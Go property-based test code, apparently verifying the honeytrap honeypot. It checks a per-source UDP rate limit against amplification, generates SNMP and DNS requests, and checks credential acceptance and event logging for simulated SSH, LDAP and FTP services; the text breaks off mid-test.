				w := bTLV(0x30, bInt(0), bStr(comm), bTLV(tag, bInt(reqid), bInt(0), bInt(0), bTLV(0x30, vbs...)))
				return w, comm, strings.Join(strs, ",")
			}
			size := drawSize(t, "size", snmpMax)
			pad := fitTotal(func(p int) []byte { w, _, _ := build(p); return w }, size)
			w, comm, oids := build(pad)
			d.Cmds = append(d.Cmds, svc.Cmd{Name: fmt.Sprintf("%s%d", typ, len(w)), Wire: w, Exp: []svc.Expect{{Match: map[string]string{"type": typ, "snmp.community": comm, "snmp.oids": oids, "snmp.version": "0"}, OIDs: []string{"snmp.oids"}}}})
		case "dns":
			id := rapid.IntRange(0, 65535).Draw(t, "id")
			// labels of up to 63 bytes, names of up to 253 characters
			total := rapid.SampledFrom([]int{1, 62, 63, 64, 126, 127, 128, 129, 200, 252, 253}).Draw(t, "namelen")
			var labels []string
			for left, k := total, 0; left > 0; k++ {
				l := rapid.SampledFrom([]int{63, 63, 62, 1, 20}).Draw(t, "label")
				if l > left {
					l = left
				}
				labels = append(labels, filler(l, k))
				left -= l + 1
			}
			var b bytes.Buffer
			b.Write([]byte{byte(id >> 8), byte(id), 0x01, 0x00, 0x00, 0x01, 0, 0, 0, 0, 0, 0})
			for _, l := range labels {
				b.WriteByte(byte(len(l)))
				b.WriteString(l)
			}
			b.WriteByte(0)
			qt := rapid.SampledFrom([]int{1, 28, 255, 16}).Draw(t, "qtype")
			b.Write([]byte{byte(qt >> 8), byte(qt), 0, 1})
			d.Cmds = append(d.Cmds, svc.Cmd{Name: fmt.Sprintf("query%d", b.Len()), Wire: b.Bytes(), Exp: []svc.Expect{match("category", "dns", "dns.id", fmt.Sprint(id), "dns.opcode", "0")}})
		}
	}
	return d
}
