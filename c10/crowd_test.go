package c10

// History SIZE: the bound "at most four response datagrams per source IP within the
// interval ... one source's requests never use up another source's allowance" is a
// statement about the history of that source only, whatever else the service has seen.
// TestAmplification keeps the number of sources at 1..3; here the number of distinct
// OTHER sources between two bursts of the watched sources is the generated dimension
// (0 .. 70000, biased towards the sizes where a bounded table would change behaviour).

import (
	"context"
	"fmt"
	"net"
	"strings"
	"testing"
	"time"

	"github.com/honeytrap/honeytrap/event"
	"github.com/honeytrap/honeytrap/listener"
	"github.com/honeytrap/honeytrap/services"
	_ "github.com/honeytrap/honeytrap/services/snmp"
	"pgregory.net/rapid"

	"verif/lab"
	"verif/svc"
	"verif/vlib"
)

// limiterInterval is the refill time of one token (services.NewLimiter): a run that
// stays (far) below it can give a source at most the burst.
const limiterInterval = 10 * time.Minute

type crowdPhase struct {
	Burst int  `json:"burst"`     // datagrams each watched source sends at the start of the phase
	Crowd int  `json:"crowd"`     // distinct other source IPs that send afterwards
	Per   int  `json:"per"`       // datagrams each of them sends
	Fresh bool `json:"fresh_ips"` // the other sources have addresses not used in an earlier phase
}

type crowdCase struct {
	Layer     string       `json:"layer"` // limiter: services.Limiter alone; handle: the service's Handle, one datagram after the other; server: through the server's dispatcher on the in-memory listener
	Service   string       `json:"service"`
	Watched   int          `json:"watched_sources"`
	WatchedV6 bool         `json:"watched_ipv6"`
	CrowdV6   bool         `json:"crowd_ipv6"`
	BasePort  int          `json:"base_port"`
	SamePort  bool         `json:"same_port"`
	Pool      []string     `json:"request_pool_hex"` // grammar-generated requests, used round-robin
	Phases    []crowdPhase `json:"phases"`
	Tail      int          `json:"tail_burst"` // datagrams each watched source sends after the last phase
	Late      int          `json:"late_source_datagrams"`
}

func watchedIP(v6 bool, i int) net.IP {
	if v6 {
		return net.IP{0x20, 0x01, 0x0d, 0xb8, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, byte(10 + i)}
	}
	return srcIP(i)
}

func crowdIP(v6 bool, j int) net.IP {
	if v6 {
		return net.IP{0x20, 0x01, 0x0d, 0xb8, 0, 2, 0, 0, 0, 0, 0, 0, 0, byte(j >> 16), byte(j >> 8), byte(j)}
	}
	return net.IPv4(10, byte(j>>16), byte(j>>8), byte(j))
}

var lateIP = net.IPv4(203, 0, 113, 200)

type ipKey [16]byte

func keyOf(ip net.IP) (k ipKey) { copy(k[:], ip.To16()); return }

// crowdDriver delivers datagrams to one fresh limiter / service / server and counts
// what each source IP got back (limiter layer: how often it was allowed).
type crowdDriver interface {
	send(ip net.IP, port int, data []byte)
	settle()               // everything sent so far has been handled (best effort on the server layer)
	counts() map[ipKey]int // responses per source IP so far
	stop()
}

type discard struct{}

func (discard) Send(event.Event) {}

// ---- limiter alone

type limiterDriver struct {
	l *services.Limiter
	n map[ipKey]int
}

func (d *limiterDriver) send(ip net.IP, port int, _ []byte) {
	if d.l.Allow(&net.UDPAddr{IP: ip, Port: port}) {
		d.n[keyOf(ip)]++
	}
}
func (d *limiterDriver) settle()               {}
func (d *limiterDriver) counts() map[ipKey]int { return d.n }
func (d *limiterDriver) stop()                 {}

// ---- the service's Handle, synchronously, with the listener's datagram connection

type handleDriver struct {
	s     services.Servicer
	local *net.UDPAddr
	n     map[ipKey]int
}

func (d *handleDriver) send(ip net.IP, port int, data []byte) {
	k := keyOf(ip)
	conn := &listener.DummyUDPConn{
		Buffer: append([]byte(nil), data...),
		Laddr:  d.local,
		Raddr:  &net.UDPAddr{IP: ip, Port: port},
		Fn: func(b []byte, _ *net.UDPAddr) (int, error) {
			d.n[k]++
			return len(b), nil
		},
	}
	func() {
		defer func() { recover() }() // the server recovers a handler's panic, too; not this property's business
		d.s.Handle(context.Background(), conn)
	}()
}
func (d *handleDriver) settle()               {}
func (d *handleDriver) counts() map[ipKey]int { return d.n }
func (d *handleDriver) stop()                 {}

// ---- through the real server's dispatcher

type serverDriver struct {
	srv   *lab.Server
	local *net.UDPAddr
	ds    []*lab.Datagram
	ks    []ipKey
}

func (d *serverDriver) send(ip net.IP, port int, data []byte) {
	d.ds = append(d.ds, d.srv.L.SendUDP(d.local, &net.UDPAddr{IP: ip, Port: port}, data))
	d.ks = append(d.ks, keyOf(ip))
}

func (d *serverDriver) total() int {
	n := 0
	for _, x := range d.ds {
		n += len(x.Snapshot())
	}
	return n
}

// settle: datagram handlers have no completion signal; wait until the reply count has
// been stable for a while. Only the order of the phases (hence the power of the check)
// depends on it: the bound asserted afterwards holds for every order.
func (d *serverDriver) settle() {
	last, stable := -1, 0
	for k := 0; k < 1200 && stable < 10; k++ {
		time.Sleep(5 * time.Millisecond)
		if n := d.total(); n == last {
			stable++
		} else {
			last, stable = n, 0
		}
	}
}

func (d *serverDriver) counts() map[ipKey]int {
	m := map[ipKey]int{}
	for i, x := range d.ds {
		if n := len(x.Snapshot()); n > 0 {
			m[d.ks[i]] += n
		}
	}
	return m
}
func (d *serverDriver) stop() { d.srv.Stop() }

func newCrowdDriver(layer, service string) (crowdDriver, error) {
	p := svc.PortOf(service)
	if p == nil {
		return nil, fmt.Errorf("infra: unknown service %q", service)
	}
	local := &net.UDPAddr{IP: svc.ServerIP, Port: p.Port}
	switch layer {
	case "limiter":
		return &limiterDriver{l: services.NewLimiter(), n: map[ipKey]int{}}, nil
	case "handle":
		fn, ok := services.Get(p.Type)
		if !ok {
			return nil, fmt.Errorf("infra: service %q is not registered", p.Type)
		}
		return &handleDriver{s: fn(services.WithChannel(discard{})), local: local, n: map[ipKey]int{}}, nil
	case "server":
		// no channel: tens of thousands of events need not be recorded for this property
		id := lab.NextID()
		srv, err := lab.Start(id, fmt.Sprintf("[listener]\ntype=\"verif-mem\"\nid=%q\n\n%s", id, svc.Body("", []string{service})), false)
		if err != nil {
			return nil, fmt.Errorf("infra: %v", err)
		}
		return &serverDriver{srv: srv, local: local}, nil
	}
	return nil, fmt.Errorf("infra: unknown layer %q", layer)
}

func checkCrowd(c crowdCase) error {
	if len(c.Pool) == 0 || c.Watched < 1 {
		return nil
	}
	pool := make([][]byte, len(c.Pool))
	for i, h := range c.Pool {
		pool[i] = vlib.UnHex(h)
	}
	start := time.Now()
	d, err := newCrowdDriver(c.Layer, c.Service)
	if err != nil {
		return err
	}
	defer d.stop()

	seq := 0 // position in the request pool
	next := func() []byte { seq++; return pool[seq%len(pool)] }
	sent := make([]int, c.Watched)
	burst := func(n int) {
		if n <= 0 {
			return
		}
		for i := 0; i < n; i++ {
			for s := 0; s < c.Watched; s++ {
				port := c.BasePort
				if !c.SamePort {
					port += sent[s] % 5000
				}
				d.send(watchedIP(c.WatchedV6, s), port, next())
				sent[s]++
			}
		}
		d.settle()
	}
	used := 0 // crowd addresses handed out so far
	for _, ph := range c.Phases {
		burst(ph.Burst)
		base := 0
		if ph.Fresh {
			base = used
		}
		for j := 0; j < ph.Crowd; j++ {
			ip := crowdIP(c.CrowdV6, base+j)
			for k := 0; k < ph.Per; k++ {
				d.send(ip, c.BasePort+k, next())
			}
		}
		if base+ph.Crowd > used {
			used = base + ph.Crowd
		}
		if ph.Crowd > 0 {
			d.settle()
		}
	}
	burst(c.Tail)

	// a source that shows up after all of this has its own, full allowance
	lateWant := -1
	if c.Late > 0 {
		for i := 0; i < c.Late; i++ {
			d.send(lateIP, c.BasePort, pool[i%len(pool)])
		}
		d.settle()
		switch c.Layer {
		case "limiter":
			lateWant = c.Late
			if lateWant > burstLimit {
				lateWant = burstLimit
			}
		case "handle":
			// differential: the same datagrams on a fresh instance that has seen nobody else
			// (Handle is synchronous, the number of replies is a function of the source's own history)
			if consultationsOf(c.Service, pool, c.Late) <= burstLimit {
				ref, err := newCrowdDriver(c.Layer, c.Service)
				if err != nil {
					return err
				}
				for i := 0; i < c.Late; i++ {
					ref.send(lateIP, c.BasePort, pool[i%len(pool)])
				}
				lateWant = ref.counts()[keyOf(lateIP)]
				ref.stop()
			}
		}
	}

	elapsed := time.Since(start)
	if elapsed > limiterInterval/2 {
		return nil // the run came too close to the refill time for the burst to be the bound: no verdict
	}
	got := d.counts()
	what := "response datagrams from " + c.Service
	if c.Layer == "limiter" {
		what = "permissions from the limiter"
	}
	others := 0
	for _, ph := range c.Phases {
		others += ph.Crowd
	}
	for s := 0; s < c.Watched; s++ {
		ip := watchedIP(c.WatchedV6, s)
		if n := got[keyOf(ip)]; n > burstLimit {
			return fmt.Errorf("[%s] source %s got %d %s within %s (limit %d per %s) for its %d datagrams; %d other sources sent in between its bursts", c.Layer, ip, n, what, elapsed.Round(time.Millisecond), burstLimit, limiterInterval, sent[s], others)
		}
	}
	for k, n := range got {
		if n > burstLimit {
			return fmt.Errorf("[%s] source %s got %d %s within %s (limit %d per %s)", c.Layer, net.IP(k[:]), n, what, elapsed.Round(time.Millisecond), burstLimit, limiterInterval)
		}
	}
	if lateWant >= 0 {
		if n := got[keyOf(lateIP)]; n != lateWant {
			return fmt.Errorf("[%s] source %s, first seen after %d other sources, got %d %s for its first %d datagrams; %d when nobody else has sent (other sources used up its allowance?)", c.Layer, lateIP, others+c.Watched, n, what, c.Late, lateWant)
		}
	}
	return nil
}

// consultationsOf: how often the limiter is asked for the first n pool datagrams of one source
func consultationsOf(service string, pool [][]byte, n int) int {
	t := 0
	for i := 0; i < n; i++ {
		if service == "memcached" {
			t += strings.Count(string(pool[i%len(pool)]), "\n")
		} else {
			t++
		}
	}
	return t
}

// crowdSize: number of distinct other sources, biased towards the sizes at which a table
// bounded at a power of two or a round number would start to behave differently
func crowdSize(t *rapid.T, max int) int {
	var n int
	switch rapid.IntRange(0, 5).Draw(t, "sizeclass") {
	case 0:
		n = rapid.IntRange(0, 6).Draw(t, "few")
	case 1, 2:
		b := rapid.SampledFrom([]int{256, 1000, 1024, 2048, 4096, 8192, 10000, 16384, 32768, 50000, 65536}).Draw(t, "bound")
		n = b + rapid.IntRange(-2, 2).Draw(t, "off")
	case 3:
		n = rapid.SampledFrom([]int{1000, 5000, 10000, 20000, 70000}).Draw(t, "round")
	default:
		n = rapid.IntRange(0, max).Draw(t, "any")
	}
	if n > max {
		n = max
	}
	if n < 0 {
		n = 0
	}
	return n
}

func TestCrowd(t *testing.T) {
	r := vlib.Open(prop)
	var cc crowdCase
	if vlib.ReplayCase("TestCrowd", &cc) {
		if err := checkCrowd(cc); err != nil {
			r.Violation(t, "TestCrowd", cc, err.Error())
		}
		return
	}
	r.Rule("history size: 1..3 watched source IPs (v4/v6, fixed or varying ports) send bursts of 0..60 grammar-generated datagrams; between their bursts 0..70000 distinct OTHER source IPs (sizes biased to 0, a few, powers of two and round numbers +-2, any) send 1..6 datagrams each, in 1..3 phases with fresh or re-used addresses; delivered to a fresh services.Limiter alone, to the service's Handle one datagram after the other, or through the real server's dispatcher on the in-memory listener; oracle = no source IP gets more than 4 responses (permissions) within the run (runs longer than half the refill time give no verdict), and a source first seen at the very end gets what it gets when nobody else has sent; non-trivial = a watched source sends > 4 datagrams with other sources in between its bursts")
	r.Rapid(t, "TestCrowd", r.Pick(36, 400), func(rt *rapid.T) {
		c := crowdCase{
			Layer:   rapid.SampledFrom([]string{"limiter", "limiter", "handle", "handle", "server"}).Draw(rt, "layer"),
			Service: rapid.SampledFrom([]string{"tftp", "memcached", "snmp", "counterstrike"}).Draw(rt, "service"),
		}
		c.Watched = rapid.IntRange(1, 3).Draw(rt, "watched")
		c.WatchedV6 = rapid.IntRange(0, 3).Draw(rt, "watchedv6") == 0
		c.CrowdV6 = rapid.IntRange(0, 3).Draw(rt, "crowdv6") == 0
		c.BasePort = rapid.IntRange(1024, 60000).Draw(rt, "baseport")
		c.SamePort = rapid.Bool().Draw(rt, "sameport")
		np := rapid.IntRange(1, 4).Draw(rt, "pool")
		for i := 0; i < np; i++ {
			w, _, _ := genDatagram(rt, c.Service)
			c.Pool = append(c.Pool, vlib.Hex(w))
		}
		// datagrams of other sources per history: the limiter alone takes 70000 sources in
		// a few milliseconds; a service builds an event per answered datagram and the server
		// layer adds a goroutine per datagram, so their histories stay smaller
		budget := map[string]int{"limiter": 160000, "handle": 40000, "server": 24000}[c.Layer]
		phases := rapid.IntRange(1, 3).Draw(rt, "phases")
		maxCrowd, between := 0, false
		for i := 0; i < phases; i++ {
			ph := crowdPhase{Per: 1, Fresh: rapid.IntRange(0, 3).Draw(rt, "fresh") != 0}
			ph.Burst = rapid.OneOf(rapid.IntRange(0, 8), rapid.IntRange(4, 60)).Draw(rt, "burst")
			most := 70000
			if most > budget {
				most = budget
			}
			ph.Crowd = crowdSize(rt, most)
			if rapid.IntRange(0, 4).Draw(rt, "multi") == 0 {
				ph.Per = rapid.IntRange(2, 6).Draw(rt, "per")
				if ph.Crowd*ph.Per > budget {
					ph.Per = 1
				}
			}
			budget -= ph.Crowd * ph.Per
			if ph.Crowd > maxCrowd {
				maxCrowd = ph.Crowd
			}
			c.Phases = append(c.Phases, ph)
		}
		c.Tail = rapid.OneOf(rapid.IntRange(0, 8), rapid.IntRange(4, 60)).Draw(rt, "tail")
		c.Late = rapid.IntRange(0, 6).Draw(rt, "late")
		// non-triviality: more than the allowance asked for, with other sources in between
		total := c.Tail
		for _, ph := range c.Phases {
			total += ph.Burst
		}
		seen := 0
		for i, ph := range c.Phases {
			seen += ph.Burst
			rest := c.Tail
			for _, q := range c.Phases[i+1:] {
				rest += q.Burst
			}
			if seen > 0 && ph.Crowd > 0 && rest > 0 {
				between = true
			}
		}
		nt := total > burstLimit && between
		class := "0"
		switch {
		case maxCrowd > 20000:
			class = ">20000"
		case maxCrowd > 5000:
			class = "<=20000"
		case maxCrowd > 1000:
			class = "<=5000"
		case maxCrowd > 10:
			class = "<=1000"
		case maxCrowd > 0:
			class = "<=10"
		}
		r.Label("crowd/largest="+class, 1)
		fp := ""
		if nt {
			fp = vlib.JSON(c)
		}
		r.Case(fmt.Sprintf("crowd/%s/%s", c.Layer, c.Service), fp, func() interface{} {
			return map[string]interface{}{"layer": c.Layer, "service": c.Service, "watched": c.Watched, "phases": c.Phases, "tail": c.Tail, "late": c.Late}
		})
		if err := checkCrowd(c); err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				rt.Fatalf("%v", err)
			}
			r.Fail(rt, "TestCrowd", c, "%v", err)
		}
	})
}
