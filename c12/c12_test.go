package c12

import (
	"bufio"
	"os"
	"bytes"
	"fmt"
	"net"
	"strings"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"
	"pgregory.net/rapid"

	"verif/lab"
	"verif/svc"
	"verif/vlib"
)

const prop = "C12"

func TestMain(m *testing.M) { vlib.Main(m, prop) }

type cred struct {
	User string `json:"user"`
	Pass string `json:"pass"`
}

type attempt struct {
	Kind string `json:"kind"` // "login" or "probe"
	User string `json:"user,omitempty"`
	Pass string `json:"pass,omitempty"`
	DN   string `json:"dn,omitempty"` // ldap: how the user is presented
}

type authCase struct {
	Service  string    `json:"service"` // ssh | ldap | ftp
	Set      []cred    `json:"credential_set"`
	Wildcard bool      `json:"wildcard"`
	Steps    []attempt `json:"steps"`
}

var users = []string{"root", "admin", "guest", ""}
var passes = []string{"root", "admin", "123456", ""}

func (c authCase) accepts(user, pass string) bool {
	if c.Wildcard {
		return true
	}
	for _, k := range c.Set {
		if k.User == user && k.Pass == pass {
			return true
		}
	}
	return false
}

func (c authCase) credToml() string {
	var q []string
	if c.Wildcard {
		q = append(q, `"*"`)
	}
	for _, k := range c.Set {
		q = append(q, fmt.Sprintf("%q", k.User+":"+k.Pass))
	}
	return "credentials=[" + strings.Join(q, ", ") + "]\n"
}

func start(body string) (*lab.Server, *lab.Capture, error) {
	if _, err := lab.DataDir(); err != nil {
		return nil, nil, err
	}
	return lab.StartWithCapture(body, true)
}

// ---------------------------------------------------------------- ssh simulator

func checkSSH(c authCase) error {
	srv, cap, err := start("[service.ssh]\ntype=\"ssh-simulator\"\n" + c.credToml() + "\n[[port]]\nport=\"tcp/22\"\nservices=[\"ssh\"]\n")
	if err != nil {
		return fmt.Errorf("infra: %v", err)
	}
	defer srv.Stop()
	// one connection per maximal run of attempts with the same user (an SSH connection
	// authenticates one user; the password method is retried on it)
	i := 0
	connNo := 0
	for i < len(c.Steps) {
		user := c.Steps[i].User
		j := i
		var pws []string
		for j < len(c.Steps) && c.Steps[j].User == user {
			pws = append(pws, c.Steps[j].Pass)
			j++
		}
		connNo++
		ip, port := svc.NextClient()
		conn := srv.L.DialTCP(&net.TCPAddr{IP: svc.ServerIP, Port: 22}, &net.TCPAddr{IP: ip, Port: port})
		asked := 0
		cfg := &ssh.ClientConfig{
			User:            user,
			HostKeyCallback: ssh.InsecureIgnoreHostKey(),
			Timeout:         10 * time.Second,
			Auth: []ssh.AuthMethod{ssh.RetryableAuthMethod(ssh.PasswordCallback(func() (string, error) {
				if asked >= len(pws) {
					return "", fmt.Errorf("no more passwords")
				}
				asked++
				return pws[asked-1], nil
			}), len(pws))},
		}
		nc := conn.NetConn()
		cc, chans, reqs, err := ssh.NewClientConn(nc, "lab:22", cfg)
		success := err == nil
		if success {
			go ssh.DiscardRequests(reqs)
			go func() {
				for ch := range chans {
					ch.Reject(ssh.Prohibited, "")
				}
			}()
			cc.Close()
		}
		nc.Close()
		conn.WaitClosed(5 * time.Second)
		// reference: attempts are tried in order until one is accepted
		wantOK := false
		wantAsked := len(pws)
		for k, pw := range pws {
			if c.accepts(user, pw) {
				wantOK = true
				wantAsked = k + 1
				break
			}
		}
		if success != wantOK {
			return fmt.Errorf("ssh connection %d user %q passwords %q: authenticated=%v, credential set says %v (err=%v)", connNo, user, pws, success, wantOK, err)
		}
		if asked != wantAsked {
			return fmt.Errorf("ssh connection %d user %q: client was asked for %d passwords, expected %d (accepted too early or too late)", connNo, user, asked, wantAsked)
		}
		// events: one password-authentication event per attempt made, with user and password
		var evs []lab.Ev
		cap.WaitFor(3*time.Second, func(all []lab.Ev) bool {
			evs = nil
			for _, e := range lab.From(all, ip.String(), port) {
				if e.Str("type") == "password-authentication" {
					evs = append(evs, e)
				}
			}
			return len(evs) >= wantAsked
		})
		if len(evs) != wantAsked {
			return fmt.Errorf("ssh connection %d: %d password-authentication events for %d attempts", connNo, len(evs), wantAsked)
		}
		for k, e := range evs {
			if e.Str("ssh.username") != user || e.Str("ssh.password") != pws[k] {
				return fmt.Errorf("ssh attempt %d event carries user %q password %q, presented %q / %q", k, e.Str("ssh.username"), e.Str("ssh.password"), user, pws[k])
			}
			if e.SerErr != "" {
				return fmt.Errorf("event does not serialise: %s", e.SerErr)
			}
		}
		i = j
	}
	return nil
}

// ---------------------------------------------------------------- ldap

func ldapResultCodes(b []byte) []int {
	// every reply is SEQUENCE{ msgid, [APPLICATION n]{ ENUMERATED code, ... } }
	var out []int
	for len(b) > 2 {
		if b[0] != 0x30 {
			return out
		}
		l := int(b[1])
		hdr := 2
		if l&0x80 != 0 {
			k := l & 0x7f
			l = 0
			for i := 0; i < k && 2+i < len(b); i++ {
				l = l<<8 | int(b[2+i])
			}
			hdr = 2 + k
		}
		if hdr+l > len(b) {
			return out
		}
		msg := b[hdr : hdr+l]
		// skip message id
		if len(msg) > 2 && msg[0] == 0x02 {
			p := 2 + int(msg[1])
			if p+4 < len(msg) {
				op := msg[p]
				body := msg[p+2:]
				if op&0x1f != 4 && len(body) >= 3 && body[0] == 0x0a { // not a search entry
					out = append(out, int(body[2]))
				}
			}
		}
		b = b[hdr+l:]
	}
	return out
}

func checkLDAP(c authCase) error {
	srv, cap, err := start("[service.ldap]\ntype=\"ldap\"\n" + c.credToml() + "\n[[port]]\nport=\"tcp/389\"\nservices=[\"ldap\"]\n")
	if err != nil {
		return fmt.Errorf("infra: %v", err)
	}
	defer srv.Stop()
	ip, port := svc.NextClient()
	conn := srv.L.DialTCP(&net.TCPAddr{IP: svc.ServerIP, Port: 389}, &net.TCPAddr{IP: ip, Port: port})
	loggedIn := false
	known := true // whether the reference knows the login state (an anonymous re-bind is not covered by the statement)
	id := 1
	nBinds := 0
	for si, st := range c.Steps {
		id++
		before := len(ldapResultCodes(conn.Output()))
		if st.Kind == "login" {
			nBinds++
			conn.Send(svc.LDAPBind(id, st.DN, st.Pass))
		} else {
			switch st.User { // probe kind
			case "modify":
				conn.Send(svc.LDAPModify(id, "cn=x,dc=example"))
			case "add":
				conn.Send(svc.LDAPAdd(id, "cn=x,dc=example"))
			case "delete":
				conn.Send(svc.LDAPDelete(id, "cn=x,dc=example"))
			case "rename":
				conn.Send(svc.LDAPModifyDN(id, "cn=x,dc=example", "cn=y"))
			default:
				conn.Send(svc.LDAPCompare(id, "cn=x,dc=example", "cn", "x"))
			}
		}
		switch conn.WaitIdle(30 * time.Second) {
		case lab.Closed:
			return fmt.Errorf("step %d: server closed the connection", si)
		case lab.Busy:
			return fmt.Errorf("inconclusive: no quiescence within 30s at step %d", si)
		}
		codes := ldapResultCodes(conn.Output())
		if len(codes) != before+1 {
			return fmt.Errorf("step %d (%+v): %d replies, expected exactly one", si, st, len(codes)-before)
		}
		code := codes[len(codes)-1]
		if st.Kind == "login" {
			user := svc.LDAPUser(st.DN)
			anon := user == "" && st.Pass == ""
			ok := c.accepts(user, st.Pass)
			switch {
			case anon:
				// anonymous bind: allowed by the statement, not a login
				if code != 0 {
					return fmt.Errorf("step %d: anonymous bind answered with result %d", si, code)
				}
				if loggedIn {
					known = false
				}
			case ok:
				if code != 0 {
					return fmt.Errorf("step %d: bind as %q/%q is in the credential set %v but was refused (result %d)", si, user, st.Pass, c.Set, code)
				}
				// an empty user name with a password is a corner the statement does not
				// cover (the service keeps treating the connection as anonymous): only a
				// login with a user name lets the reference expect gated operations to pass
				if user != "" {
					loggedIn, known = true, true
				} else {
					known = false
				}
			default:
				if code == 0 {
					return fmt.Errorf("step %d: bind as %q/%q is NOT in the credential set %v but succeeded", si, user, st.Pass, c.Set)
				}
			}
		} else if known {
			if !loggedIn && code != 53 {
				return fmt.Errorf("step %d: %s before any successful login answered with result %d, want unwillingToPerform (53)", si, st.User, code)
			}
			if loggedIn && code != 0 {
				return fmt.Errorf("step %d: %s after a successful login answered with result %d, want success", si, st.User, code)
			}
		}
	}
	conn.CloseWrite()
	conn.WaitClosed(5 * time.Second)
	// events: every bind attempt has an event with user as evaluated + password presented
	var binds []lab.Ev
	cap.WaitFor(3*time.Second, func(all []lab.Ev) bool {
		binds = nil
		for _, e := range lab.From(all, ip.String(), port) {
			if e.Str("ldap.request-type") == "bind" {
				binds = append(binds, e)
			}
		}
		return len(binds) >= nBinds
	})
	if len(binds) != nBinds {
		return fmt.Errorf("%d bind events for %d bind attempts", len(binds), nBinds)
	}
	k := 0
	for _, st := range c.Steps {
		if st.Kind != "login" {
			continue
		}
		e := binds[k]
		k++
		if e.Str("ldap.username") != svc.LDAPUser(st.DN) || e.Str("ldap.password") != st.Pass {
			return fmt.Errorf("bind event carries user %q password %q, presented dn %q (user %q) password %q", e.Str("ldap.username"), e.Str("ldap.password"), st.DN, svc.LDAPUser(st.DN), st.Pass)
		}
		if e.SerErr != "" {
			return fmt.Errorf("event does not serialise: %s", e.SerErr)
		}
	}
	return nil
}

// ---------------------------------------------------------------- ftp (fixed credential set anonymous:anonymous)

func ftpCodes(out []byte) []string {
	var codes []string
	sc := bufio.NewScanner(bytes.NewReader(out))
	for sc.Scan() {
		l := sc.Text()
		if len(l) >= 4 && l[3] == ' ' {
			codes = append(codes, l[:3])
		}
	}
	return codes
}

func checkFTP(c authCase) error {
	in, err := svc.StartInstance([]string{"ftp"})
	if err != nil {
		return fmt.Errorf("infra: %v", err)
	}
	defer in.Srv.Stop()
	sc := &svc.Script{Service: "ftp"}
	se := in.Open(sc)
	se.Conn.WaitIdle(5 * time.Second)
	loggedIn := false
	var lines []string
	send := func(line string) (string, error) {
		before := len(ftpCodes(se.Conn.Output()))
		lines = append(lines, line)
		se.Conn.Send([]byte(line + "\r\n"))
		switch se.Conn.WaitIdle(30 * time.Second) {
		case lab.Closed:
			return "", fmt.Errorf("server closed the connection after %q", line)
		case lab.Busy:
			// the harness's own wait ran out (loaded machine): not a verdict
			return "", fmt.Errorf("inconclusive: no quiescence within 30s after %q", line)
		}
		codes := ftpCodes(se.Conn.Output())
		if len(codes) < before+1 {
			return "", fmt.Errorf("%q: no reply", line)
		}
		return codes[before], nil
	}
	for si, st := range c.Steps {
		if st.Kind == "login" {
			code, err := send("USER " + st.User)
			if err != nil {
				return err
			}
			if code != "331" {
				return fmt.Errorf("step %d: USER answered %s", si, code)
			}
			code, err = send("PASS " + st.Pass)
			if err != nil {
				return err
			}
			ok := c.accepts(st.User, st.Pass)
			if ok && code != "230" {
				return fmt.Errorf("step %d: login %q/%q is in the credential set but answered %s", si, st.User, st.Pass, code)
			}
			if !ok && code[0] == '2' {
				return fmt.Errorf("step %d: login %q/%q is NOT in the credential set but answered %s", si, st.User, st.Pass, code)
			}
			if ok {
				loggedIn = true
			}
		} else {
			if loggedIn && (st.User == "LIST" || st.User == "NLST") {
				// once logged in these wait for a data connection (bounded, seconds) and answer
				// twice: they are exercised by C09/C11; here they only probe the gate
				continue
			}
			code, err := send(st.User) // probe command line
			if err != nil {
				return err
			}
			if !loggedIn && code != "530" {
				return fmt.Errorf("step %d: %q before any successful login answered %s, want 530", si, st.User, code)
			}
			if loggedIn && code == "530" {
				return fmt.Errorf("step %d: %q after a successful login answered 530", si, st.User)
			}
		}
	}
	se.Conn.CloseWrite()
	se.Conn.WaitClosed(5 * time.Second)
	var got []string
	in.Cap.WaitFor(3*time.Second, func(all []lab.Ev) bool {
		got = nil
		for _, e := range lab.From(all, sc.SrcIP.String(), sc.SrcPort) {
			if e.Has("ftp.command") {
				got = append(got, e.Str("ftp.command"))
			}
		}
		return len(got) >= len(lines)
	})
	if strings.Join(got, "\n") != strings.Join(lines, "\n") {
		return fmt.Errorf("ftp.command events %q, commands sent %q (every USER/PASS attempt must be recorded)", got, lines)
	}
	return nil
}

func check(c authCase) error {
	switch c.Service {
	case "ssh":
		return checkSSH(c)
	case "ldap":
		return checkLDAP(c)
	default:
		return checkFTP(c)
	}
}

func genSet(t *rapid.T, allowEmptyUser bool) []cred {
	n := rapid.IntRange(0, 3).Draw(t, "setsize")
	var out []cred
	for i := 0; i < n; i++ {
		u := rapid.SampledFrom(users).Draw(t, "cu")
		p := rapid.SampledFrom(passes).Draw(t, "cp")
		out = append(out, cred{u, p})
	}
	return out
}

func nontrivial(c authCase) bool {
	// a failing attempt followed by another attempt, or a gated probe before a success
	failed := false
	success := false
	for _, s := range c.Steps {
		if s.Kind == "login" {
			u := s.User
			if c.Service == "ldap" {
				u = svc.LDAPUser(s.DN)
			}
			if failed {
				return true
			}
			if c.accepts(u, s.Pass) {
				success = true
			} else {
				failed = true
			}
		} else if !success {
			return true
		}
	}
	return false
}

func TestAuth(t *testing.T) {
	r := vlib.Open(prop)
	var ac authCase
	if vlib.ReplayCase("TestAuth", &ac) {
		if err := check(ac); err != nil {
			r.Violation(t, "TestAuth", ac, err.Error())
		}
		return
	}
	r.Rule("credential sets of size 0..3 over users {root,admin,guest,''} x passwords {root,admin,123456,''} (+ wildcard for the ssh simulator, the only service that defines one) configured through TOML on a fresh server; attempt sequences of length 1..4 on one connection (ssh: per user; ldap: DN forms cn=U,dc=.. / U / anonymous; ftp: fixed set anonymous:anonymous) with gated-operation probes before and after each attempt; oracle = reference predicate pair-in-set, per-attempt auth events with evaluated user and presented password, gated ops refused (ldap 53 / ftp 530) until a login succeeded on this connection; non-trivial = failing attempt followed by another attempt, or a probe before a success")
	r.Rapid(t, "TestAuth", r.Pick(1200, 25000), func(rt *rapid.T) {
		c := authCase{Service: rapid.SampledFrom([]string{"ssh", "ldap", "ldap", "ftp"}).Draw(rt, "service")}
		if only := os.Getenv("C12_ONLY"); only != "" {
			c.Service = only
		}
		switch c.Service {
		case "ssh":
			c.Set = genSet(rt, true)
			c.Wildcard = rapid.IntRange(0, 5).Draw(rt, "wildcard") == 0
			n := rapid.IntRange(1, 4).Draw(rt, "nattempts")
			for i := 0; i < n; i++ {
